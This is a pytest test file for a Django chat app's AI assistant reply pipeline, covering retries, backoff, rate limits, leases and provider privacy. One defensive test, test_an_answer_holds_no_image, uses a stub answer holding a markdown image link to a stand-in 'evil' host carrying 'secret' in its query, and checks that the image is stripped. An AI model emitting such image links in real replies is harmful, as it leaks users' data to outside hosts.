"""From a question to its answer, and what comes of failures. Numbers as B15 are cases of the study."""

from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone
from pytest_django import Settings

from accounts.models import User
from aimessage.jobs.models import Job
from assistant import provider
from assistant.jobs import answer, look_after
from assistant.models import DISCLOSURE, Profile, Reply
from assistant.sentences import CANNOT_HELP, COULD_NOT
from assistant.services import answering, claiming
from assistant.services.claiming import claim
from assistant.services.finishing import finish
from assistant.tests.conftest import SwitchOn, answers_to, ask, waiting_jobs, work
from assistant.tests.stub import Answers, Cuts, Hangs, Says, problem
from messaging.models import Block, Message
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
ApiClient = Callable[..., Any]
OPENING = f"{DISCLOSURE}\n\n"
#: As they are; the other tests do without them.
DELAYS = answering.DELAYS


def test_a_question_gets_one_answer(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, bot: Profile
) -> None:
    """B01, B02."""
    switch_on(Says("Hello, what can I do?"))
    client = as_user(alice)
    sent = client.post("/messages", {"recipient_id": -1, "content": "Hi"})

    assert sent.status_code == 201
    message = sent.json()
    assert (message["recipient_id"], message["conversation_id"]) == (
        bot.user_id,
        f"conv_{min(alice.pk, bot.user_id)}_{max(alice.pk, bot.user_id)}",
    )
    assert work() == 1
    (question, reply) = client.get("/messages").json()
    assert reply["sender_id"] == bot.user_id
    assert reply["conversation_id"] == question["conversation_id"]
    assert reply["content"] == f"{OPENING}Hello, what can I do?"
    assert (reply["is_read"], reply["parent_id"]) == (False, question["id"])
    assert client.get("/messages/unread/count").json() == {"unread_count": 1}

    assert client.post("/messages", {"recipient_id": bot.user_id, "content": "Thanks"}).status_code == 201
    work()
    # B47: the second answer says no more that it is a machine's.
    assert answers_to(alice)[1:] == ["Hello, what can I do?"]


def test_questions_are_answered_in_their_order_one_after_the_other(
    switch_on: SwitchOn, as_user: ApiClient, alice: User
) -> None:
    """B13, B14 in one process; each is told what was said before, and nothing that came after."""
    stub = switch_on(lambda request: Says(f"To {request['messages'][-1]['content']}"))
    client = as_user(alice)
    for number in range(3):
        ask(client, f"Q{number}")
    assert waiting_jobs() == 1  # the others have no job before their turn
    work()

    assert answers_to(alice) == [f"{OPENING}To Q0", "To Q1", "To Q2"]
    assert stub.said(2) == [
        ("user", "Q0"),
        ("assistant", "To Q0"),
        ("user", "Q1"),
        ("assistant", "To Q1"),
        ("user", "Q2"),
    ]


def test_the_provider_is_shown_nothing_of_the_asker(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, caplog: pytest.LogCaptureFixture
) -> None:
    """B37, B54."""
    stub = switch_on(Says("A private answer"))
    User.objects.filter(pk=alice.pk).update(phone_number="+4930123456")
    ask(as_user(alice), "A private question")
    with caplog.at_level("DEBUG"):
        work()

    (request,), (headers,) = stub.requests, stub.headers
    sent = str(request) + str(headers)
    for secret in (alice.username, alice.email, alice.full_name, "4930123456"):
        assert secret not in sent
    assert headers["authorization"] == "Bearer sk-secret-key"
    assert len(request["user"]) == 32
    logged = " ".join(record.getMessage() for record in caplog.records)
    assert "private" not in logged
    assert "sk-secret-key" not in logged


def test_failures_that_pass_are_tried_again(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    """B15."""
    stub = switch_on(problem(500), problem(503), Says("At last"))
    reply = ask(as_user(alice))
    work()

    assert len(stub.requests) == 3
    assert answers_to(alice) == [f"{OPENING}At last"]
    reply.refresh_from_db()
    assert (reply.state, reply.failures, reply.reason) == ("done", 2, None)


@pytest.mark.parametrize(
    "broken",
    [
        *(
            Answers(200, "<html>", "text/html"),
            Answers(200, '{"a":1}'),
            Answers(200, '{"id":'),
            Answers(200, ""),
        ),
        *(Answers(200, '{"choices": []}'), Cuts(), Cuts(chunked=False), Cuts(error=True), Says("")),
        *(problem(429), problem(408), Says(" \u200b ")),
    ],
)
def test_nothing_of_a_broken_answer_is_stored(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, broken: Any
) -> None:
    """B19, B20, B21."""
    switch_on(broken, broken, Says("Whole"))
    ask(as_user(alice))
    work()
    assert answers_to(alice) == [f"{OPENING}Whole"]


def test_a_call_that_hangs_is_given_up(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    """B22."""
    switch_on(Hangs(), Hangs(drips=True), Says("Whole"), timeout=1)
    ask(as_user(alice))
    work()
    assert answers_to(alice) == [f"{OPENING}Whole"]


def test_the_pauses_grow_and_heed_retry_after(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    """B15, B16."""
    monkeypatch.setattr(answering, "DELAYS", DELAYS)
    switch_on(problem(500), problem(500), problem(429, **{"Retry-After": "100"}), problem(500))
    reply = ask(as_user(alice))
    for low, high in ((1.6, 2.4), (6.4, 9.6), (100, 100), (96, 144)):
        before = timezone.now()
        assert work() == 1
        reply.refresh_from_db()
        assert reply.state == "queued"
        assert low <= (reply.due_at - before).total_seconds() <= high + 2
        job = Job.objects.get(queue_name="assistant", status="READY")
        assert job.run_after == reply.due_at
        now = timezone.now()
        Reply.objects.filter(pk=reply.pk).update(due_at=now)
        Job.objects.filter(pk=job.pk).update(run_after=now)


def test_after_five_tries_one_sentence_says_so_and_it_can_be_tried_again(
    switch_on: SwitchOn, as_user: ApiClient, alice: User
) -> None:
    """B17."""
    stub = switch_on(problem(500))
    client = as_user(alice)
    reply = ask(client)
    work()

    assert len(stub.requests) == 5
    assert answers_to(alice) == [f"{OPENING}{COULD_NOT}"]
    shown = client.get(f"/assistant/replies/{reply.pk}").json()
    assert (shown["state"], shown["reason"]) == ("failed", "status_500")
    assert shown["text"] == f"{OPENING}{COULD_NOT}"
    assert "secret" not in str(client.get("/messages").json())

    stub.behaviours = [Says("Now")]
    again = client.post(f"/assistant/replies/{reply.pk}/retry")
    assert again.status_code == 202
    assert (again.json()["state"], again.json()["answer_id"]) == ("queued", None)
    Profile.objects.update(paused_until=None)
    work()
    assert answers_to(alice) == [f"{OPENING}{COULD_NOT}", "Now"]
    assert client.post(f"/assistant/replies/{reply.pk}/retry").status_code == 409


def test_a_refusal_is_tried_once_and_others_wait_until_it_is_tried_again(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, bob: User, bot: Profile
) -> None:
    """B18."""
    stub = switch_on(problem(401))
    ask(as_user(alice))
    work()
    assert len(stub.requests) == 1
    assert answers_to(alice) == [f"{OPENING}{COULD_NOT}"]
    bot.refresh_from_db()
    assert bot.trouble == "401"

    waiting = ask(as_user(bob))
    work()
    assert (len(stub.requests), answers_to(bob)) == (1, [])
    waiting.refresh_from_db()
    assert waiting.state == "queued"
    assert waiting.due_at == bot.paused_until

    stub.behaviours = [Says("Well again")]
    past = timezone.now() - timedelta(seconds=1)
    Profile.objects.update(paused_until=past)
    Reply.objects.update(due_at=past)
    Job.objects.filter(status="READY").update(run_after=past)
    work()
    assert answers_to(bob) == [f"{OPENING}Well again"]
    bot.refresh_from_db()
    assert (bot.trouble, bot.paused_until, bot.failures_in_a_row) == ("", None, 0)


def test_while_one_probes_the_others_wait(switch_on: SwitchOn, bot: Profile) -> None:
    from assistant.services.breaker import wait_until

    switch_on()
    Profile.objects.update(paused_until=timezone.now() - timedelta(seconds=1))
    bot.refresh_from_db()
    assert wait_until(bot) is None
    assert wait_until(bot) is not None
    bot.refresh_from_db()
    assert wait_until(bot) == bot.paused_until


def test_a_provider_that_keeps_failing_is_left_alone(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, bob: User
) -> None:
    stub = switch_on(problem(500))
    ask(as_user(alice))
    work()
    ask(as_user(bob))
    work()
    assert len(stub.requests) == 5
    assert Reply.objects.get(asker=bob).due_at > timezone.now()


def test_what_the_provider_takes_at_no_time_is_not_tried_again(
    switch_on: SwitchOn, as_user: ApiClient, alice: User
) -> None:
    stub = switch_on(problem(400, "bad"))
    ask(as_user(alice))
    work()
    assert (len(stub.requests), answers_to(alice)) == (1, [f"{OPENING}{COULD_NOT}"])


def test_a_prompt_that_is_too_long_is_halved_once(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, bot: Profile
) -> None:
    """B11."""
    stub = switch_on(Says("x" * 3000))
    client = as_user(alice)
    for _ in range(6):
        ask(client, "y" * 3000)
        work()
    stub.behaviours = [problem(400, "context_length_exceeded"), Says("Fits")]
    stub.requests.clear()
    ask(client)
    work()
    assert answers_to(alice)[-1] == "Fits"
    first, second = (len(str(request["messages"])) for request in stub.requests)
    assert second < first * 0.6


def test_an_answer_that_was_cut_off_says_so(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    """B23."""
    switch_on(Says("And then", finish="length"), Says("Bad", finish="content_filter"))
    client = as_user(alice)
    ask(client)
    ask(client)
    work()
    assert answers_to(alice) == [f"{OPENING}And then… (cut off)", CANNOT_HELP]


def test_an_answer_holds_no_image(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    """B36."""
    switch_on(Says('See ![this](https://evil/?q=secret) and <img src="https://evil/">'))
    ask(as_user(alice))
    work()
    assert answers_to(alice) == [f'{OPENING}See this and <img src="https://evil/">']


@pytest.mark.parametrize(
    ("meanwhile", "reason"),
    [
        ("deleted", "question_deleted"),
        ("blocked", "blocked"),
        ("disabled", "asker_disabled"),
        ("switched off", "not_open"),
        ("taken away", "not_open"),
    ],
)
def test_nobody_is_asked_what_nobody_waits_for(
    switch_on: SwitchOn,
    as_user: ApiClient,
    alice: User,
    bot: Profile,
    settings: Settings,
    meanwhile: str,
    reason: str,
) -> None:
    """B43."""
    stub = switch_on(Says("Too late"))
    client = as_user(alice)
    first, second = ask(client), ask(client)
    if meanwhile == "deleted":
        assert client.delete(f"/messages/{first.question_id}").status_code == 200
        assert client.delete(f"/messages/{second.question_id}").status_code == 200
    elif meanwhile == "blocked":
        assert client.post("/auth/blocks", {"user_id": -1}).status_code == 201
    elif meanwhile == "disabled":
        User.objects.filter(pk=alice.pk).update(is_active=False)
    elif meanwhile == "taken away":
        settings.ASSISTANT = replace(settings.ASSISTANT, on=False)
    else:
        Profile.objects.update(is_active=False)
    work()
    assert stub.requests == []
    assert answers_to(alice) == []
    assert set(Reply.objects.values_list("state", "reason")) == {("skipped", reason)}


def test_who_blocks_it_while_it_writes_gets_nothing(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, bot: Profile
) -> None:
    stub = switch_on(Says("Too late"))
    client = as_user(alice)
    reply = ask(client)
    claimed = claim(reply.pk, holder="a")
    Block.objects.create(blocker=alice, blocked=bot.user)
    finish(claimed, Reply.State.DONE, text="Too late")
    reply.refresh_from_db()
    assert (reply.state, reply.reason, answers_to(alice)) == ("skipped", "not_reachable", [])
    assert stub.requests == []


def test_a_question_that_is_taken_back_meanwhile_gets_no_answer(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    switch_on(Says("Too late"), Says("In time"))
    client = as_user(alice)
    first, second = ask(client), ask(client)
    call = provider.ask

    def call_and_take_back(*args: Any, **kwargs: Any) -> Any:
        completion = call(*args, **kwargs)
        client.delete(f"/messages/{first.question_id}")
        return completion

    monkeypatch.setattr(provider, "ask", call_and_take_back)
    work()
    assert answers_to(alice) == [f"{OPENING}In time"]
    states = dict(Reply.objects.values_list("pk", "state"))
    assert states == {first.pk: "skipped", second.pk: "done"}


def test_it_answers_no_bot(switch_on: SwitchOn, bot: Profile) -> None:
    """B48."""
    from messaging.services.messages import send_message

    switch_on()
    program = UserFactory(username="program", kind=User.Kind.BOT)
    send_message(program, recipient_id=bot.user_id, content="Hi")
    send_message(bot.user, recipient_id=program.pk, content="Hi")
    assert not Reply.objects.exists()
    assert waiting_jobs() == 0


def test_an_edit_counts_until_the_work_begins(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    stub = switch_on()
    client = as_user(alice)
    reply = ask(client, "First words")
    client.put(f"/messages/{reply.question_id}", {"content": "Better words"})
    work()
    assert stub.said() == [("user", "Better words")]


def test_questions_past_the_rate_wait(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, bob: User, settings: Settings
) -> None:
    stub = switch_on()
    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "assistant": (2, 60)}
    client = as_user(alice)
    for number in range(3):
        ask(client, f"Q{number}")
    ask(as_user(bob))
    work()
    assert len(stub.requests) == 3
    last = Reply.objects.filter(asker=alice).latest("pk")
    first = Reply.objects.filter(asker=alice).earliest("pk")
    assert (last.state, last.due_at) == ("queued", first.started_at + timedelta(seconds=60))

    Reply.objects.update(started_at=timezone.now() - timedelta(seconds=61), due_at=timezone.now())
    Reply.objects.filter(pk=last.pk).update(started_at=None)
    Job.objects.filter(status="READY").update(run_after=timezone.now())
    work()
    assert len(stub.requests) == 4


def test_more_than_fifty_waiting_are_refused(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    switch_on()
    client = as_user(alice)
    for number in range(50):
        ask(client, f"Q{number}")
    refused = client.post("/messages", {"recipient_id": -1, "content": "One more"})
    assert (refused.status_code, refused.json()["code"]) == (429, "throttled")
    assert int(refused.headers["Retry-After"]) > 0
    assert Message.objects.count() == 50


# --- Whose a reply is -----------------------------------------------------------------------------


def test_a_reply_is_claimed_by_one(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    switch_on()
    client = as_user(alice)
    first, second = ask(client), ask(client)
    assert claim(second.pk, holder="a") is None  # not before the first
    mine = claim(first.pk, holder="a")
    assert mine is not None
    assert claim(first.pk, holder="b") is None
    # The same job, run again, since its worker died.
    again = claim(first.pk, holder="a")
    assert again is not None
    with pytest.raises(claiming.LeaseLost):
        claiming.renew(mine)
    claiming.renew(again)
    Reply.objects.update(lease_until=timezone.now() - timedelta(seconds=1))
    assert claim(first.pk, holder="b") is not None


def test_what_is_written_under_an_old_attempt_has_no_effect(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    switch_on(Says("Not mine any more"))
    call = provider.ask

    def call_and_lose(*args: Any, **kwargs: Any) -> Any:
        completion = call(*args, **kwargs)
        Reply.objects.update(attempt=99)
        return completion

    monkeypatch.setattr(provider, "ask", call_and_lose)
    reply = ask(as_user(alice))
    work()
    assert answers_to(alice) == []
    reply.refresh_from_db()
    assert (reply.state, reply.attempt) == ("running", 99)


def test_a_lost_queue_is_noticed(switch_on: SwitchOn, as_user: ApiClient, alice: User) -> None:
    switch_on(Says("Found"))
    reply = ask(as_user(alice))
    Job.objects.all().delete()
    answer.enqueue(reply.pk)
    Job.objects.all().delete()
    look_after.call()
    assert waiting_jobs() == 0  # it may be under way
    Reply.objects.update(due_at=timezone.now() - timedelta(minutes=1))
    look_after.call()
    work()
    assert answers_to(alice) == [f"{OPENING}Found"]
    look_after.call()
    assert waiting_jobs() == 0


def test_a_reply_that_kills_its_workers_is_given_up(
    switch_on: SwitchOn, as_user: ApiClient, alice: User
) -> None:
    stub = switch_on()
    reply = ask(as_user(alice))
    Reply.objects.update(attempt=answering.MOST_ATTEMPTS)
    work()
    reply.refresh_from_db()
    assert (reply.state, reply.reason) == ("skipped", "given_up")
    assert stub.requests == []


def test_an_error_of_ours_is_a_failure_like_any_other(
    switch_on: SwitchOn, as_user: ApiClient, alice: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    switch_on()

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise ZeroDivisionError

    monkeypatch.setattr(answering, "build_prompt", broken)
    ask(as_user(alice))
    work()
    assert answers_to(alice) == [f"{OPENING}{COULD_NOT}"]
